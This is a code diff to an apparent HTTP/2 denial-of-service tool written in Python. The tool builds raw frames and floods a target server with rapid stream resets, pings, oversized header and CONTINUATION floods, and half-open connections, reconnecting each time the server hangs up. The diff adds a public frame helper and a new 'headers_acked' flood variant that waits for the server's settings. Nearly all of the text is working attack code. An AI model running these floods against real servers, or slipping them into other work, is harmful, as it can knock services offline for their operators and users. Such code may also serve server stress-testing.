@@ -27,42 +27,60 @@ Attack = Callable[[int], bytes]
 """What is sent as the n-th of its kind on a connection."""
 
 
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """As HTTP/2 has them."""
+    return (
+        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+    )
+
+
+HELLO: Final = _PREFACE + frame(_SETTINGS, 0, 0, b"")
+"""What every connection begins with."""
+ACKNOWLEDGED: Final = frame(_SETTINGS, 1, 0, b"")
+"""The server's settings count from here on."""
+
+
 def reset(number: int) -> bytes:
     """A call that is given up as soon as it was made."""
     stream = 2 * number + 1
     return (
-        _frame(_HEADERS, _END_HEADERS, stream, _header_block())
-        + _frame(_DATA, _END_STREAM, stream, bytes(5))
-        + _frame(_RST_STREAM, 0, stream, _CANCEL)
+        frame(_HEADERS, _END_HEADERS, stream, _header_block())
+        + frame(_DATA, _END_STREAM, stream, bytes(5))
+        + frame(_RST_STREAM, 0, stream, _CANCEL)
     )
 
 
 def ping(number: int) -> bytes:
     """A question that HTTP/2 wants answered."""
-    return _frame(_PING, 0, 0, number.to_bytes(8, "big"))
+    return frame(_PING, 0, 0, number.to_bytes(8, "big"))
 
 
 def headers(number: int) -> bytes:
     """A call with far more metadata than anybody has."""
+    return call_with(HEADER_BYTES, number)
+
+
+def call_with(header_bytes: int, number: int) -> bytes:
+    """A call with so much metadata, more or less."""
     stream = 2 * number + 1
     block = _header_block() + b"".join(
-        _literal(f"x-storm-{index}", "x" * 100) for index in range(HEADER_BYTES // 112)
+        _literal(f"x-storm-{index}", "x" * 100) for index in range(header_bytes // 112)
     )
     first, *rest = [
         block[at : at + _FRAME_BYTES_MAX] for at in range(0, len(block), _FRAME_BYTES_MAX)
     ]
-    frames = [_frame(_HEADERS, _END_STREAM, stream, first)]
-    frames += [_frame(_CONTINUATION, 0, stream, each) for each in rest[:-1]]
-    frames.append(_frame(_CONTINUATION, _END_HEADERS, stream, rest[-1]))
+    frames = [frame(_HEADERS, _END_STREAM, stream, first)]
+    frames += [frame(_CONTINUATION, 0, stream, each) for each in rest[:-1]]
+    frames.append(frame(_CONTINUATION, _END_HEADERS, stream, rest[-1]))
     return b"".join(frames)
 
 
-def attack(target: str, kind: Attack, count: int) -> int:
+def attack(target: str, kind: Attack, count: int, hello: bytes = HELLO) -> int:
     """Send so many of a kind; over how many connections."""
     sent = connections = fruitless = 0
     while sent < count and fruitless < _REFUSED_MAX:
         connections += 1
-        taken = _until_cut(target, kind, count - sent)
+        taken = _until_cut(target, kind, count - sent, hello)
         fruitless = 0 if taken else fruitless + 1
         sent += taken
     if sent < count:
@@ -70,14 +88,14 @@ def attack(target: str, kind: Attack, count: int) -> int:
     return connections
 
 
-def _until_cut(target: str, kind: Attack, count: int) -> int:
+def _until_cut(target: str, kind: Attack, count: int, hello: bytes) -> int:
     """How many were sent on one connection before the server hung up, if it did."""
     sent = 0
     with suppress(OSError), _connected(target) as conn:
         reader = threading.Thread(target=_discard, args=(conn,), daemon=True)
         reader.start()
         try:
-            conn.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+            conn.sendall(hello)
             while sent < count:
                 conn.sendall(kind(sent))
                 sent += 1
@@ -119,12 +137,6 @@ def _discard(conn: socket.socket) -> None:
             pass
 
 
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    return (
-        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
-    )
-
-
 def _header_block() -> bytes:
     # 0x83 and 0x86 are ":method: POST" and ":scheme: http" of HPACK's static table.
     named = {
@@ -144,6 +156,7 @@ KINDS: Final[dict[str, Callable[[str, int], int]]] = {
     "resets": lambda target, count: attack(target, reset, count),
     "pings": lambda target, count: attack(target, ping, count),
     "headers": lambda target, count: attack(target, headers, count),
+    "headers_acked": lambda target, count: attack(target, headers, count, HELLO + ACKNOWLEDGED),
     "half_open": half_open,
 }
 
